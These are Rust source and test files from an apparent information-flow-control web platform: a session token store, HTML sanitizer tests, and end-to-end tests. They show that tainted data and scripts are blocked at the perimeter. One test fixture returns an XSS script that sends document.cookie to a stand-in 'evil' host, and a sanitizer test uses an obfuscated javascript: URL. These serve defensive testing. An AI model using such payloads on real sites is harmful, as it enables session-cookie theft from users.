        let html = "<a href=\"java\tscript:steal()\">x</a>";
        let (out, stats) = sanitize_html(html);
        assert_eq!(stats.js_urls_removed, 1);
        assert!(!out.contains("steal"));
    }

    #[test]
    fn keeps_ordinary_on_words() {
        // An attribute merely *containing* "on" must survive.
        let html = r#"<div config="on" month="june">x</div>"#;
        let (out, stats) = sanitize_html(html);
        assert_eq!(stats.handlers_removed, 0);
        assert!(out.contains("month"));
    }

    #[test]
    fn closing_tags_and_comments_untouched() {
        let html = "<!-- note --><p>x</p>";
        let (out, stats) = sanitize_html(html);
        assert_eq!(stats.total(), 0);
        assert!(out.contains("<!-- note -->"));
        assert!(out.contains("</p>"));
    }

    #[test]
    fn handles_empty_and_textonly() {
        assert_eq!(sanitize_html("").0, "");
        assert_eq!(sanitize_html("plain text").0, "plain text");
    }

    #[test]
    fn unterminated_tag_dropped() {
        let (out, _) = sanitize_html("<p>ok</p><img src=");
        assert!(out.contains("ok"));
        assert!(!out.contains("img"));
    }

    #[test]
    fn self_closing_preserved() {
        let (out, _) = sanitize_html(r#"<br/><img src="x.png"/>"#);
        assert!(out.contains("<br />") || out.contains("<br/>"), "{out}");
        assert!(out.contains("/>"));
    }
}
