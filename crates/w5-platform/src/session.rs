//! Session tokens: the cookie-based authentication of paper §2.
//!
//! Tokens are `HMAC(server_secret, user || counter)` — unforgeable without
//! the secret, and meaningless off-platform. The store maps live tokens to
//! users; logout revokes.

use crate::crypto;
use crate::principal::UserId;
use w5_sync::RwLock;
use rand::RngCore;
use std::collections::HashMap;
use std::sync::atomic::{AtomicU64, Ordering};

/// Cookie name used by the gateway. Aliases the net-layer constant so the
/// pipeline's admission stage and the gateway always agree on where the
/// session token lives.
pub const SESSION_COOKIE: &str = w5_net::SESSION_COOKIE_NAME;

/// Issues and validates session tokens.
pub struct SessionStore {
    secret: [u8; 32],
    counter: AtomicU64,
    live: RwLock<HashMap<String, UserId>>,
}

impl Default for SessionStore {
    fn default() -> Self {
        SessionStore::new()
    }
}

impl SessionStore {
    /// A store with a random per-instance secret.
    pub fn new() -> SessionStore {
        let mut secret = [0u8; 32];
        rand::thread_rng().fill_bytes(&mut secret);
        SessionStore { secret, counter: AtomicU64::new(0), live: RwLock::new("platform.sessions", HashMap::new()) }
    }

    /// Issue a token for a user.
    pub fn create(&self, user: UserId) -> String {
        let n = self.counter.fetch_add(1, Ordering::Relaxed);
        let mut msg = Vec::with_capacity(16);
        msg.extend_from_slice(&user.0.to_be_bytes());
        msg.extend_from_slice(&n.to_be_bytes());
        let token = crypto::hex(&crypto::hmac_sha256(&self.secret, &msg));
        self.live.write().insert(token.clone(), user);
        token
    }

    /// Resolve a token to its user, if the session is live.
    pub fn validate(&self, token: &str) -> Option<UserId> {
        self.live.read().get(token).copied()
    }

    /// Revoke a token (logout). Returns true if it was live.
    pub fn revoke(&self, token: &str) -> bool {
        self.live.write().remove(token).is_some()
    }

    /// Revoke every session of a user.
    pub fn revoke_user(&self, user: UserId) -> usize {
        let mut live = self.live.write();
        let before = live.len();
        live.retain(|_, u| *u != user);
        before - live.len()
    }

    /// Number of live sessions.
    pub fn live_count(&self) -> usize {
        self.live.read().len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn create_validate_revoke() {
        let s = SessionStore::new();
        let t = s.create(UserId(7));
        assert_eq!(s.validate(&t), Some(UserId(7)));
        assert!(s.revoke(&t));
        assert_eq!(s.validate(&t), None);
        assert!(!s.revoke(&t));
    }

    #[test]
    fn tokens_are_unique_and_unguessable_without_store() {
        let s = SessionStore::new();
        let t1 = s.create(UserId(1));
        let t2 = s.create(UserId(1));
        assert_ne!(t1, t2);
        assert_eq!(t1.len(), 64);
        assert_eq!(s.validate("0".repeat(64).as_str()), None);
    }

    #[test]
    fn revoke_user_kills_all_sessions() {
        let s = SessionStore::new();
        let _t1 = s.create(UserId(1));
        let _t2 = s.create(UserId(1));
        let t3 = s.create(UserId(2));
        assert_eq!(s.revoke_user(UserId(1)), 2);
        assert_eq!(s.live_count(), 1);
        assert_eq!(s.validate(&t3), Some(UserId(2)));
    }

    #[test]
    fn different_stores_have_different_secrets() {
        let a = SessionStore::new();
        let b = SessionStore::new();
        let t = a.create(UserId(1));
        assert_eq!(b.validate(&t), None, "token from store A is dead in store B");
    }
}
