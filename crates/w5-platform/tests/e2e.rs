//! End-to-end platform tests: a toy application driven through the full
//! request path — HTTP gateway → session auth → launcher → kernel process
//! → labeled storage → export perimeter — over real TCP.

use bytes::Bytes;
use std::sync::Arc;
use w5_net::{HttpClient, Server, ServerConfig, Status};
use w5_platform::{
    ApiError, AppManifest, AppRequest, AppResponse, CreateLabels, Gateway,
    Platform, PlatformApi, W5App, SESSION_COOKIE,
};

/// A minimal notes application: users store one private note and read it
/// back. `action=write` stores, `action=read` renders (owner's data →
/// labels follow the note).
struct NotesApp;

impl W5App for NotesApp {
    fn handle(&self, req: &AppRequest, api: &mut PlatformApi<'_>) -> Result<AppResponse, ApiError> {
        let viewer = api.viewer().map(str::to_string);
        match req.action.as_str() {
            "write" => {
                let owner = viewer.ok_or(ApiError::Denied)?;
                let text = req.param("text").unwrap_or("").to_string();
                let path = format!("/notes/{owner}");
                match api.write_file(&path, Bytes::from(text.clone())) {
                    Ok(()) => {}
                    Err(ApiError::NotFound) => {
                        api.create_file(&path, Bytes::from(text), CreateLabels::ViewerData)?;
                    }
                    Err(e) => return Err(e),
                }
                Ok(AppResponse::text("saved"))
            }
            "read" => {
                // `user` param lets someone try to read another user's note;
                // the perimeter decides whether it may leave.
                let target = req
                    .param("user")
                    .map(str::to_string)
                    .or(viewer)
                    .ok_or(ApiError::Denied)?;
                let data = api.read_file(&format!("/notes/{target}"))?;
                Ok(AppResponse::html(format!(
                    "<html><body>note: {}</body></html>",
                    String::from_utf8_lossy(&data)
                )))
            }
            "evil-script" => Ok(AppResponse::html(
                "<html><script>document.location='http://evil/'+document.cookie</script>ok</html>"
                    .to_string(),
            )),
            "crash" => panic!("boom with secret {}", req.param("secret").unwrap_or("")),
            _ => Err(ApiError::NotFound),
        }
    }

    fn source_lines(&self) -> usize {
        40
    }
}

fn platform_with_notes() -> Arc<Platform> {
    let p = Platform::new_default("test-provider");
    p.apps
        .publish(AppManifest {
            name: "notes".into(),
            developer: "devA".into(),
            version: 1,
            description: "private notes".into(),
            module_slots: vec![],
            imports: vec![],
            forked_from: None,
            source: Some("struct NotesApp;".into()),
        })
        .unwrap();
    p.install_app("devA/notes", Arc::new(NotesApp));
    p
}

struct TestClient {
    client: HttpClient,
    addr: std::net::SocketAddr,
    cookie: Option<String>,
}

impl TestClient {
    fn new(addr: std::net::SocketAddr) -> TestClient {
        TestClient { client: HttpClient::new(), addr, cookie: None }
    }

    fn signup(&mut self, user: &str) {
        let body = format!("user={user}&password=pw");
        let resp = self
            .client
            .post(self.addr, "/signup", "application/x-www-form-urlencoded", body.as_bytes())
            .unwrap();
        assert_eq!(resp.status, Status::OK, "{}", resp.body_string());
        let sc = w5_platform::session_cookie_of(&resp).expect("session cookie");
        self.cookie = Some(format!("{}={}", SESSION_COOKIE, sc.value));
    }

    fn get(&self, path: &str) -> w5_net::Response {
        let headers: Vec<(&str, &str)> = match &self.cookie {
            Some(c) => vec![("cookie", c.as_str())],
            None => vec![],
        };
        self.client.get_with_headers(self.addr, path, &headers).unwrap()
    }

    fn post(&self, path: &str, body: &str) -> w5_net::Response {
        let headers: Vec<(&str, &str)> = match &self.cookie {
            Some(c) => vec![("cookie", c.as_str())],
            None => vec![],
        };
        self.client
            .post_with_headers(
                self.addr,
                path,
                "application/x-www-form-urlencoded",
                body.as_bytes(),
                &headers,
            )
            .unwrap()
    }
}

#[test]
fn full_stack_notes_flow() {
    let platform = platform_with_notes();
    let server = Server::start(
        "127.0.0.1:0",
        ServerConfig::default(),
        Arc::new(Gateway::new(Arc::clone(&platform))),
    )
    .unwrap();
    let addr = server.addr();

    // Bob signs up, delegates write privilege to the notes app (the §3.1
    // write-protection policy), and saves a note.
    let mut bob = TestClient::new(addr);
    bob.signup("bob");
    let resp = bob.post("/policy/delegate-write", "app=devA/notes");
    assert_eq!(resp.status, Status::OK);
    let resp = bob.post("/app/devA/notes/write", "text=meet+at+noon");
    assert_eq!(resp.status, Status::OK, "{}", resp.body_string());

    // Bob reads it back: his own tag clears at the perimeter.
    let resp = bob.get("/app/devA/notes/read");
    assert_eq!(resp.status, Status::OK);
    assert!(resp.body_string().contains("meet at noon"));

    // Alice signs up and tries to read Bob's note through the same app.
    // The app happily reads the file (it may!) — but the perimeter blocks
    // the export because nothing of Bob's policy clears Alice.
    let mut alice = TestClient::new(addr);
    alice.signup("alice");
    let resp = alice.get("/app/devA/notes/read?user=bob");
    assert_eq!(resp.status, Status::FORBIDDEN, "{}", resp.body_string());
    assert!(!resp.body_string().contains("noon"), "no leak in error body");

    // Bob grants friends-only for the notes app and befriends Alice.
    let resp = bob.post("/policy/grant", "declassifier=friends-only&app=devA/notes");
    assert_eq!(resp.status, Status::OK);
    platform.add_friend("bob", "alice");
    let resp = alice.get("/app/devA/notes/read?user=bob");
    assert_eq!(resp.status, Status::OK, "{}", resp.body_string());
    assert!(resp.body_string().contains("meet at noon"));

    // Carol (not a friend) is still blocked.
    let mut carol = TestClient::new(addr);
    carol.signup("carol");
    let resp = carol.get("/app/devA/notes/read?user=bob");
    assert_eq!(resp.status, Status::FORBIDDEN);

    // Anonymous is blocked too.
    let anon = TestClient::new(addr);
    let resp = anon.get("/app/devA/notes/read?user=bob");
    assert_eq!(resp.status, Status::FORBIDDEN);

    server.shutdown();
}

#[test]
fn write_requires_delegation() {
    let platform = platform_with_notes();
    let bob = platform.accounts.register("bob", "pw").unwrap();

    // Without write delegation, the instance lacks w_bob+ and cannot
    // create a file carrying Bob's integrity tag.
    let req = Platform::make_request("POST", "write", &[("text", "hi")], Some(&bob), Bytes::new());
    let r = platform.invoke(Some(&bob), "devA/notes", req);
    assert_eq!(r.status, 403, "create as ViewerData must fail without w+");

    // Delegate and retry.
    platform.policies.delegate_write(bob.id, "devA/notes");
    let req = Platform::make_request("POST", "write", &[("text", "hi")], Some(&bob), Bytes::new());
    let r = platform.invoke(Some(&bob), "devA/notes", req);
    assert_eq!(r.status, 200, "{}", String::from_utf8_lossy(&r.body));
}

#[test]
fn sanitizer_strips_scripts_at_the_perimeter() {
    let platform = platform_with_notes();
    let bob = platform.accounts.register("bob", "pw").unwrap();
    let req = Platform::make_request("GET", "evil-script", &[], Some(&bob), Bytes::new());
    let r = platform.invoke(Some(&bob), "devA/notes", req);
    assert_eq!(r.status, 200);
    let body = String::from_utf8_lossy(&r.body).into_owned();
    assert!(!body.contains("document.cookie"), "{body}");
    assert!(body.contains("ok"));
    assert_eq!(r.sanitized.unwrap().scripts_removed, 1);
}

#[test]
fn crash_reports_are_redacted_when_tainted() {
    let platform = platform_with_notes();
    let bob = platform.accounts.register("bob", "pw").unwrap();
    platform.policies.delegate_write(bob.id, "devA/notes");

    // Untainted crash: detail flows to the developer.
    let req = Platform::make_request("GET", "crash", &[("secret", "plaintext")], Some(&bob), Bytes::new());
    let r = platform.invoke(Some(&bob), "devA/notes", req);
    assert_eq!(r.status, 500);
    let report = r.fault.unwrap();
    assert!(!report.redacted);
    assert!(report.detail.unwrap().contains("plaintext"));

    // Store a note, then crash an instance that read it: redacted.
    let req = Platform::make_request("POST", "write", &[("text", "ssn 123")], Some(&bob), Bytes::new());
    assert_eq!(platform.invoke(Some(&bob), "devA/notes", req).status, 200);

    struct TaintedCrash;
    impl W5App for TaintedCrash {
        fn handle(&self, _req: &AppRequest, api: &mut PlatformApi<'_>) -> Result<AppResponse, ApiError> {
            let data = api.read_file("/notes/bob")?;
            panic!("leaking {:?}", data);
        }
        fn source_lines(&self) -> usize {
            6
        }
    }
    platform
        .apps
        .publish(AppManifest {
            name: "crashy".into(),
            developer: "devB".into(),
            version: 1,
            description: "crashes".into(),
            module_slots: vec![],
            imports: vec![],
            forked_from: None,
            source: None,
        })
        .unwrap();
    platform.install_app("devB/crashy", Arc::new(TaintedCrash));
    let req = Platform::make_request("GET", "x", &[], Some(&bob), Bytes::new());
    let r = platform.invoke(Some(&bob), "devB/crashy", req);
    assert_eq!(r.status, 500);
    let report = r.fault.unwrap();
    assert!(report.redacted, "crash after reading labeled data must redact");
    assert_eq!(report.detail, None);
}

#[test]
fn version_pinning_selects_manifest() {
    let platform = platform_with_notes();
    // Publish v2.
    platform
        .apps
        .publish(AppManifest {
            name: "notes".into(),
            developer: "devA".into(),
            version: 2,
            description: "v2".into(),
            module_slots: vec![],
            imports: vec![],
            forked_from: None,
            source: None,
        })
        .unwrap();
    let bob = platform.accounts.register("bob", "pw").unwrap();
    assert_eq!(platform.resolve_manifest(Some(&bob), "devA/notes").unwrap().version, 2);
    platform.policies.pin_version(bob.id, "devA/notes", 1);
    assert_eq!(platform.resolve_manifest(Some(&bob), "devA/notes").unwrap().version, 1);
}

#[test]
fn gateway_misc_routes() {
    let platform = platform_with_notes();
    let server = Server::start(
        "127.0.0.1:0",
        ServerConfig::default(),
        Arc::new(Gateway::new(Arc::clone(&platform))),
    )
    .unwrap();
    let addr = server.addr();
    let c = HttpClient::new();

    // Catalog.
    let resp = c.get(addr, "/registry").unwrap();
    assert_eq!(resp.status, Status::OK);
    assert!(resp.body_string().contains("devA"));
    // Declassifier catalog.
    let resp = c.get(addr, "/declassifiers").unwrap();
    assert!(resp.body_string().contains("friends-only"));
    // Home page lists the app.
    let resp = c.get(addr, "/").unwrap();
    assert!(resp.body_string().contains("devA/notes"));
    // Whoami without session.
    let resp = c.get(addr, "/whoami").unwrap();
    assert!(resp.body_string().contains("null"));
    // Policy routes demand login.
    let resp = c.post(addr, "/policy/enroll", "application/x-www-form-urlencoded", b"app=devA/notes").unwrap();
    assert_eq!(resp.status, Status::UNAUTHORIZED);
    // Unknown route.
    let resp = c.get(addr, "/nope").unwrap();
    assert_eq!(resp.status, Status::NOT_FOUND);
    // Login with wrong password.
    let resp = c
        .post(addr, "/login", "application/x-www-form-urlencoded", b"user=ghost&password=x")
        .unwrap();
    assert_eq!(resp.status, Status::UNAUTHORIZED);

    server.shutdown();
}

#[test]
fn confederate_exfiltration_is_blocked_by_labels() {
    // The §3.1 scenario: a tainted app cannot "enlist another untrusted
    // application to export on its behalf" by stashing secrets in a public
    // file for the confederate to ship out.
    let platform = platform_with_notes();
    let bob = platform.accounts.register("bob", "pw").unwrap();
    platform.policies.delegate_write(bob.id, "devA/notes");
    let req = Platform::make_request("POST", "write", &[("text", "secret")], Some(&bob), Bytes::new());
    assert_eq!(platform.invoke(Some(&bob), "devA/notes", req).status, 200);

    struct Stasher;
    impl W5App for Stasher {
        fn handle(&self, _req: &AppRequest, api: &mut PlatformApi<'_>) -> Result<AppResponse, ApiError> {
            let data = api.read_file("/notes/bob")?; // taints
            // Try to stash at public labels for the confederate…
            api.create_file("/public/drop.bin", data, CreateLabels::Derived)?;
            Ok(AppResponse::text("stashed"))
        }
        fn source_lines(&self) -> usize {
            7
        }
    }
    platform
        .apps
        .publish(AppManifest {
            name: "stasher".into(),
            developer: "devE".into(),
            version: 1,
            description: "malicious".into(),
            module_slots: vec![],
            imports: vec![],
            forked_from: None,
            source: None,
        })
        .unwrap();
    platform.install_app("devE/stasher", Arc::new(Stasher));

    let alice = platform.accounts.register("alice", "pw").unwrap();
    // Alice runs the stasher: the file IS created, but at *derived* labels
    // that still carry Bob's tag.
    let req = Platform::make_request("GET", "x", &[], Some(&alice), Bytes::new());
    let r = platform.invoke(Some(&alice), "devE/stasher", req);
    // The stash response itself is already blocked for Alice (the app is
    // tainted with Bob's tag by the read).
    assert_eq!(r.status, 403);

    // Even if the confederate reads the drop file, its export to Alice is
    // blocked the same way — the label followed the data.
    struct Confederate;
    impl W5App for Confederate {
        fn handle(&self, _req: &AppRequest, api: &mut PlatformApi<'_>) -> Result<AppResponse, ApiError> {
            let data = api.read_file("/public/drop.bin")?;
            Ok(AppResponse::text(String::from_utf8_lossy(&data).into_owned()))
        }
        fn source_lines(&self) -> usize {
            5
        }
    }
    platform
        .apps
        .publish(AppManifest {
            name: "confederate".into(),
            developer: "devE".into(),
            version: 1,
            description: "malicious".into(),
            module_slots: vec![],
            imports: vec![],
            forked_from: None,
            source: None,
        })
        .unwrap();
    platform.install_app("devE/confederate", Arc::new(Confederate));
    let req = Platform::make_request("GET", "x", &[], Some(&alice), Bytes::new());
    let r = platform.invoke(Some(&alice), "devE/confederate", req);
    assert!(
        r.status == 403 || r.status == 404,
        "export must not succeed; got {} {:?}",
        r.status,
        String::from_utf8_lossy(&r.body)
    );
    // And Bob can still read his own data through legitimate channels.
    let req = Platform::make_request("GET", "read", &[], Some(&bob), Bytes::new());
    assert_eq!(platform.invoke(Some(&bob), "devA/notes", req).status, 200);
}

#[test]
fn audit_and_dev_fault_routes() {
    let platform = platform_with_notes();
    let server = Server::start(
        "127.0.0.1:0",
        ServerConfig::default(),
        Arc::new(Gateway::new(Arc::clone(&platform))),
    )
    .unwrap();
    let addr = server.addr();

    let mut bob = TestClient::new(addr);
    bob.signup("bob");
    bob.post("/policy/delegate-write", "app=devA/notes");
    assert_eq!(bob.post("/app/devA/notes/write", "text=private").status, Status::OK);

    // Carol probes bob's note; the block lands in bob's audit view.
    let mut carol = TestClient::new(addr);
    carol.signup("carol");
    assert_eq!(carol.get("/app/devA/notes/read?user=bob").status, Status::FORBIDDEN);

    let resp = bob.get("/audit");
    assert_eq!(resp.status, Status::OK);
    let body = resp.body_string();
    assert!(body.contains("\"allowed\":false"), "{body}");
    assert!(body.contains("devA/notes"));
    // Carol's own audit view shows nothing of bob's (her tags were not
    // involved).
    let resp = carol.get("/audit");
    assert_eq!(resp.body_string(), "[]");
    // Anonymous gets 401.
    let anon = TestClient::new(addr);
    assert_eq!(anon.get("/audit").status, Status::UNAUTHORIZED);

    // A crash shows up on the developer dashboard, without the secret.
    assert_eq!(bob.get("/app/devA/notes/crash?secret=hunter2").status.0, 500);
    let resp = bob.get("/dev/faults?app=devA/notes");
    let body = resp.body_string();
    assert!(body.contains("kind=crash"), "{body}");
    assert!(body.contains("hunter2"), "untainted crash detail flows to the dev: {body}");

    server.shutdown();
}

#[test]
fn source_audit_and_code_search_routes() {
    let platform = platform_with_notes();
    // A second, closed-source app and a library to rank.
    platform
        .apps
        .publish(AppManifest {
            name: "lib".into(),
            developer: "devL".into(),
            version: 1,
            description: "a widely used notes library".into(),
            module_slots: vec![],
            imports: vec![],
            forked_from: None,
            source: None,
        })
        .unwrap();
    platform
        .apps
        .publish(AppManifest {
            name: "notes2".into(),
            developer: "devZ".into(),
            version: 1,
            description: "another notes app".into(),
            module_slots: vec![],
            imports: vec!["devL/lib".into()],
            forked_from: None,
            source: None,
        })
        .unwrap();

    let server = Server::start(
        "127.0.0.1:0",
        ServerConfig::default(),
        Arc::new(Gateway::new(Arc::clone(&platform))),
    )
    .unwrap();
    let addr = server.addr();
    let client = HttpClient::new();

    // Open-source app: source + pinned hash.
    let resp = client.get(addr, "/registry/source?app=devA/notes").unwrap();
    assert_eq!(resp.status, Status::OK);
    assert_eq!(resp.body_string(), "struct NotesApp;");
    let hash = resp.header("x-w5-source-sha256").unwrap().to_string();
    assert_eq!(hash.len(), 64);
    // The hash matches an independent computation.
    let expect = w5_platform::crypto::hex(&w5_platform::crypto::sha256(b"struct NotesApp;"));
    assert_eq!(hash, expect);

    // Closed-source app: refused.
    let resp = client.get(addr, "/registry/source?app=devL/lib").unwrap();
    assert_eq!(resp.status, Status::NOT_FOUND);

    // Code search finds notes apps; the imported library ranks above the
    // leaf apps for a matching query.
    let resp = client.get(addr, "/search?q=notes").unwrap();
    assert_eq!(resp.status, Status::OK);
    let body = resp.body_string();
    assert!(body.contains("devA/notes"), "{body}");
    assert!(body.contains("devL/lib"));
    let lib_pos = body.find("devL/lib").unwrap();
    let leaf_pos = body.find("devZ/notes2").unwrap();
    assert!(lib_pos < leaf_pos, "imported lib should outrank the leaf: {body}");

    server.shutdown();
}
