//! Tests for the §3.1/§3.2 policy extensions: read protection, editor
//! endorsements, and integrity-protected launching.

use bytes::Bytes;
use std::sync::Arc;
use w5_platform::{
    ApiError, AppManifest, AppRequest, AppResponse, CreateLabels, Platform, PlatformApi, W5App,
};

/// An app that writes one read-protected note per user and reads it back.
struct VaultApp;

impl W5App for VaultApp {
    fn handle(&self, req: &AppRequest, api: &mut PlatformApi<'_>) -> Result<AppResponse, ApiError> {
        let me = api.viewer().ok_or(ApiError::Denied)?.to_string();
        match req.action.as_str() {
            "put" => {
                let text = req.param("text").unwrap_or("").to_string();
                api.create_file(
                    &format!("/vault/{me}"),
                    Bytes::from(text),
                    CreateLabels::ViewerPrivate,
                )?;
                Ok(AppResponse::text("stored"))
            }
            "get" => {
                let data = api.read_file(&format!("/vault/{me}"))?;
                Ok(AppResponse::text(String::from_utf8_lossy(&data).into_owned()))
            }
            _ => Err(ApiError::NotFound),
        }
    }
    fn source_lines(&self) -> usize {
        20
    }
}

fn publish(p: &Arc<Platform>, dev: &str, name: &str, version: u32, imports: Vec<String>) {
    p.apps
        .publish(AppManifest {
            name: name.into(),
            developer: dev.into(),
            version,
            description: String::new(),
            module_slots: vec![],
            imports,
            forked_from: None,
            source: None,
        })
        .unwrap();
}

#[test]
fn read_protection_requires_both_delegations() {
    let p = Platform::new_default("vault-test");
    publish(&p, "devV", "vault", 1, vec![]);
    p.install_app("devV/vault", Arc::new(VaultApp));

    let bob = p.accounts.register("bob", "pw").unwrap();
    p.policies.delegate_write(bob.id, "devV/vault");

    // Without read protection enabled, ViewerPrivate creation is refused.
    let req = Platform::make_request("POST", "put", &[("text", "deep secret")], Some(&bob), Bytes::new());
    assert_eq!(p.invoke(Some(&bob), "devV/vault", req).status, 403);

    // Enable read protection; storing works (write needs no read access).
    p.accounts.enable_read_protection(bob.id).unwrap();
    let bob = p.accounts.get(bob.id).unwrap(); // refresh: read_tag now set
    let req = Platform::make_request("POST", "put", &[("text", "deep secret")], Some(&bob), Bytes::new());
    let r = p.invoke(Some(&bob), "devV/vault", req);
    assert_eq!(r.status, 200, "{:?}", String::from_utf8_lossy(&r.body));

    // Reading back WITHOUT read delegation: the file is invisible to the
    // instance (NotFound, not Forbidden — existence is protected too).
    let req = Platform::make_request("GET", "get", &[], Some(&bob), Bytes::new());
    assert_eq!(p.invoke(Some(&bob), "devV/vault", req).status, 404);

    // Delegate read: the instance can raise to r_bob, reads the data, and
    // the perimeter clears bob's own session for both tags.
    p.policies.delegate_read(bob.id, "devV/vault");
    let req = Platform::make_request("GET", "get", &[], Some(&bob), Bytes::new());
    let r = p.invoke(Some(&bob), "devV/vault", req);
    assert_eq!(r.status, 200, "{:?}", String::from_utf8_lossy(&r.body));
    assert_eq!(String::from_utf8_lossy(&r.body), "deep secret");

    // Another user, even with their own read delegation, sees nothing of
    // bob's vault: their instance lacks r_bob+.
    let alice = p.accounts.register("alice", "pw").unwrap();
    p.accounts.enable_read_protection(alice.id).unwrap();
    let alice = p.accounts.get(alice.id).unwrap();
    p.policies.delegate_read(alice.id, "devV/vault");
    p.policies.delegate_write(alice.id, "devV/vault");

    struct Snoop;
    impl W5App for Snoop {
        fn handle(&self, _req: &AppRequest, api: &mut PlatformApi<'_>) -> Result<AppResponse, ApiError> {
            let data = api.read_file("/vault/bob")?;
            Ok(AppResponse::text(String::from_utf8_lossy(&data).into_owned()))
        }
        fn source_lines(&self) -> usize {
            5
        }
    }
    publish(&p, "devV", "snoop", 1, vec![]);
    p.install_app("devV/snoop", Arc::new(Snoop));
    p.policies.delegate_read(alice.id, "devV/snoop");
    let req = Platform::make_request("GET", "x", &[], Some(&alice), Bytes::new());
    assert_eq!(
        p.invoke(Some(&alice), "devV/snoop", req).status,
        404,
        "read-protected data is invisible, not merely unexportable"
    );
}

#[test]
fn endorsement_required_launch_gate() {
    let p = Platform::new_default("editors-test");
    publish(&p, "devC", "syslib", 1, vec![]);
    publish(&p, "devA", "photos", 1, vec!["devC/syslib".into()]);
    struct Trivial;
    impl W5App for Trivial {
        fn handle(&self, _r: &AppRequest, _a: &mut PlatformApi<'_>) -> Result<AppResponse, ApiError> {
            Ok(AppResponse::text("ok"))
        }
        fn source_lines(&self) -> usize {
            3
        }
    }
    p.install_app("devA/photos", Arc::new(Trivial));

    let bob = p.accounts.register("bob", "pw").unwrap();
    // Default: no endorsement requirement, runs fine.
    let req = Platform::make_request("GET", "x", &[], Some(&bob), Bytes::new());
    assert_eq!(p.invoke(Some(&bob), "devA/photos", req).status, 200);

    // Bob turns on integrity protection and trusts an editor.
    p.policies.set_require_endorsement(bob.id, true);
    p.policies.trust_editor(bob.id, "trade-journal");

    // Unendorsed app: refused, naming the offending component.
    let req = Platform::make_request("GET", "x", &[], Some(&bob), Bytes::new());
    let r = p.invoke(Some(&bob), "devA/photos", req);
    assert_eq!(r.status, 403);
    assert!(String::from_utf8_lossy(&r.body).contains("devA/photos"));

    // Endorse the app but not its import: still refused, on the import.
    p.editors.endorse("trade-journal", "devA/photos", 1, "audited");
    let req = Platform::make_request("GET", "x", &[], Some(&bob), Bytes::new());
    let r = p.invoke(Some(&bob), "devA/photos", req);
    assert_eq!(r.status, 403);
    assert!(String::from_utf8_lossy(&r.body).contains("devC/syslib"));

    // Endorse the whole closure: runs.
    p.editors.endorse("trade-journal", "devC/syslib", 1, "audited");
    let req = Platform::make_request("GET", "x", &[], Some(&bob), Bytes::new());
    assert_eq!(p.invoke(Some(&bob), "devA/photos", req).status, 200);

    // An endorsement from an editor bob does not trust is worthless.
    let carol = p.accounts.register("carol", "pw").unwrap();
    p.policies.set_require_endorsement(carol.id, true);
    p.policies.trust_editor(carol.id, "some-other-editor");
    let req = Platform::make_request("GET", "x", &[], Some(&carol), Bytes::new());
    assert_eq!(p.invoke(Some(&carol), "devA/photos", req).status, 403);

    // Other users are unaffected by bob's strictness.
    let dave = p.accounts.register("dave", "pw").unwrap();
    let req = Platform::make_request("GET", "x", &[], Some(&dave), Bytes::new());
    assert_eq!(p.invoke(Some(&dave), "devA/photos", req).status, 200);
}

#[test]
fn inter_app_messages_carry_labels() {
    let p = Platform::new_default("mail-test");
    publish(&p, "devM", "sender", 1, vec![]);
    publish(&p, "devM", "receiver", 1, vec![]);

    /// Sends either a public note or one derived from the viewer's file.
    struct Sender;
    impl W5App for Sender {
        fn handle(&self, req: &AppRequest, api: &mut PlatformApi<'_>) -> Result<AppResponse, ApiError> {
            if req.param("taint") == Some("1") {
                let me = api.viewer().unwrap().to_string();
                let _secret = api.read_file(&format!("/files/{me}"))?; // acquire taint
            }
            let seq = api.send_message("devM/receiver", req.param("text").unwrap_or("hi"))?;
            Ok(AppResponse::text(format!("sent #{seq}")))
        }
        fn source_lines(&self) -> usize {
            10
        }
    }
    /// Reads its mailbox and renders everything it can see.
    struct Receiver;
    impl W5App for Receiver {
        fn handle(&self, _req: &AppRequest, api: &mut PlatformApi<'_>) -> Result<AppResponse, ApiError> {
            let msgs = api.recv_messages(0)?;
            let bodies: Vec<String> = msgs.into_iter().map(|(_, b)| b).collect();
            Ok(AppResponse::text(bodies.join("|")))
        }
        fn source_lines(&self) -> usize {
            8
        }
    }
    p.install_app("devM/sender", Arc::new(Sender));
    p.install_app("devM/receiver", Arc::new(Receiver));

    let bob = p.accounts.register("bob", "pw").unwrap();
    let carol = p.accounts.register("carol", "pw").unwrap();
    // Bob stores a secret file the tainted sender will read.
    let subject = w5_store::Subject::new(
        w5_difc::LabelPair::public(),
        p.registry.effective(&bob.owner_caps),
    );
    p.fs.create(&subject, "/files/bob", bob.data_labels(), Bytes::from_static(b"SECRET"))
        .unwrap();

    // 1. A public message flows: carol sends, carol receives.
    let req = Platform::make_request("POST", "x", &[("text", "public hello")], Some(&carol), Bytes::new());
    assert_eq!(p.invoke(Some(&carol), "devM/sender", req).status, 200);
    let req = Platform::make_request("GET", "x", &[], Some(&carol), Bytes::new());
    let r = p.invoke(Some(&carol), "devM/receiver", req);
    assert_eq!(r.status, 200);
    assert!(String::from_utf8_lossy(&r.body).contains("public hello"));

    // 2. Bob sends a *tainted* message (his instance read his secret
    //    first). The send succeeds server-side; the confirmation to bob is
    //    fine (it's his own tag).
    let req = Platform::make_request(
        "POST",
        "x",
        &[("text", "derived from SECRET"), ("taint", "1")],
        Some(&bob),
        Bytes::new(),
    );
    assert_eq!(p.invoke(Some(&bob), "devM/sender", req).status, 200);

    // 3. Carol's receiver now reads a mailbox containing bob-tainted mail:
    //    the instance is tainted and the perimeter blocks her response.
    let req = Platform::make_request("GET", "x", &[], Some(&carol), Bytes::new());
    let r = p.invoke(Some(&carol), "devM/receiver", req);
    assert_eq!(r.status, 403, "tainted mail must not reach carol: {:?}", r.body);

    // 4. Bob's receiver gets everything — his session clears his tag.
    let req = Platform::make_request("GET", "x", &[], Some(&bob), Bytes::new());
    let r = p.invoke(Some(&bob), "devM/receiver", req);
    assert_eq!(r.status, 200);
    let body = String::from_utf8_lossy(&r.body).into_owned();
    assert!(body.contains("public hello") && body.contains("derived from SECRET"), "{body}");
}
