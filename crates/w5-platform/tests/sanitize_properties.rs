//! Property tests for the perimeter sanitizer: on *any* input — including
//! deliberately broken markup — the output must carry no executable
//! JavaScript, and the sanitizer must never panic.

use proptest::prelude::*;
use w5_platform::sanitize_html;

/// Normalized form used to look for surviving payloads: whitespace and
/// control characters stripped, lowercased (matching the obfuscations the
/// sanitizer itself defends against).
fn normalize(s: &str) -> String {
    s.chars()
        .filter(|c| !c.is_ascii_whitespace() && !c.is_control())
        .collect::<String>()
        .to_ascii_lowercase()
}

fn contains_executable_js(s: &str) -> bool {
    let n = normalize(s);
    n.contains("<script") || n.contains("javascript:")
}

